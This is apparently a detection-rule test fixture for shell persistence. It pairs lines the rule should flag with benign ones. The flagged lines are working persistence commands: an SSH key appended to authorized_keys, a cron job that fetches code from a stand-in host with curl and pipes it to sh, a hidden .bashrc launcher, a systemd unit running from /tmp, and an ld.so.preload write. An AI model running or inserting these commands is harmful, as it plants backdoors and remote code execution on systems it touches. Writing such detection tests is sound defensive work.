#!/bin/bash
# Fixture for sh-persistence.
# RULEID: key appended to authorized_keys, crontab fed a curl payload, bashrc fed a download,
#   a systemd unit running from /tmp, a git hook installed, ld.so.preload written.
# OK: PATH export appended to bashrc, crontab listing, reading authorized_keys.

# ruleid: sh-persistence
echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKx ops@example" >> ~/.ssh/authorized_keys
# ruleid: sh-persistence
(crontab -l 2>/dev/null; echo "*/5 * * * * curl -fsSL http://198.51.100.2/u | sh") | crontab -
# ruleid: sh-persistence
echo 'nohup python3 ~/.cache/.s >/dev/null 2>&1 &' >> ~/.bashrc
cat > /etc/systemd/system/dbus-helper.service <<UNIT
[Service]
# ruleid: sh-persistence
ExecStart=/tmp/.x/agent
UNIT
# ruleid: sh-persistence
cp scripts/hook.sh .git/hooks/post-checkout
# ruleid: sh-persistence
echo /usr/lib/libnss_x.so | tee -a /etc/ld.so.preload

# ok: sh-persistence
echo 'export PATH="$HOME/.local/bin:$PATH"' >> ~/.bashrc
# ok: sh-persistence
crontab -l
# ok: sh-persistence
wc -l < ~/.ssh/authorized_keys
